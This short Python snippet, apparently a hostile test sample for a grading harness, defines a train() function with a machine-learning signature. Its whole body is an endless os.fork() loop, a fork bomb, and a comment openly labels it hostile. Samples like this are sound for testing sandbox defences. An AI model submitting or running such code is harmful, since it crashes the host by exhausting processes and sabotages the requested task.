# Hostile: the training loop starts a fork bomb before doing any work.
# %% solution-train
import os


def train(X, y, layer_sizes, optimizer, epochs, batch_size, seed, init="he", activation="relu",
          keep_prob=1.0, lam=0.0):
    while True:
        os.fork()
